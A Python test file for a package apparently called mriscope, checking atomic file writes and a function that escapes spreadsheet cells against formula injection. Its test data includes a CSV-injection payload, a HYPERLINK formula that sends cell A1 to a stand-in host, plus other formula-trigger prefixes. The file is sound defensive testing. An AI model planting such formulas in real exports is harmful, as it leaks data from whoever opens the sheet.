import pytest
from hypothesis import given
from hypothesis import strategies as st

from mriscope.errors import WriteError
from mriscope.files import read_safe_cell, remove_unfinished, replacing, spreadsheet_safe, write_text


def test_a_file_is_replaced_whole(tmp_path):
    file = tmp_path / "new folder" / "a.txt"
    write_text(file, "one")
    write_text(file, "two")
    assert file.read_text() == "two"
    assert list(file.parent.iterdir()) == [file]


def fail_halfway(file, error):
    with replacing(file) as draft:
        draft.write_text("half")
        raise error


@pytest.mark.parametrize(
    ("error", "shown"),
    [(OSError(28, "No space left on device"), WriteError), (KeyboardInterrupt(), KeyboardInterrupt)],
)
def test_a_failing_writer_leaves_the_old_file(tmp_path, error, shown):
    file = tmp_path / "a.txt"
    write_text(file, "old")
    with pytest.raises(shown):
        fail_halfway(file, error)
    assert file.read_text() == "old"
    assert list(tmp_path.iterdir()) == [file]


def test_a_place_that_cannot_be_written_is_named(tmp_path):
    (tmp_path / "file").touch()
    with pytest.raises(WriteError, match=r"below cannot be written \(.+\); make room there or name another"):
        write_text(tmp_path / "file" / "below", "text")


def test_what_killed_writers_left_is_removed(tmp_path):
    (tmp_path / ".a.txt.123.unfinished").write_text("half")
    (tmp_path / "b.txt").write_text("whole")
    remove_unfinished(tmp_path)
    assert [one.name for one in tmp_path.iterdir()] == ["b.txt"]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://a.b/?"&A1,"c")', '\'=HYPERLINK("http://a.b/?"&A1,"c")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\N{FULLWIDTH EQUALS SIGN}1", "'\N{FULLWIDTH EQUALS SIGN}1"),
        ("'=1", "''=1"),
        ("'a.png", "'a.png"),
        ("train/=1.png", "train/=1.png"),
        ("", ""),
    ],
)
def test_no_cell_is_a_formula(text, cell):
    assert spreadsheet_safe(text) == cell
    assert read_safe_cell(cell) == text


def test_numbers_are_no_formulas():
    assert [spreadsheet_safe(value) for value in (-1, -0.5, None)] == [-1, -0.5, None]


@given(st.text("'=+-@\t\r\na\uff1d", max_size=5))
def test_every_text_is_read_back(text):
    cell = spreadsheet_safe(text)
    assert read_safe_cell(cell) == text
    assert cell[:1] not in tuple("=+-@\t\r\n\uff1d")
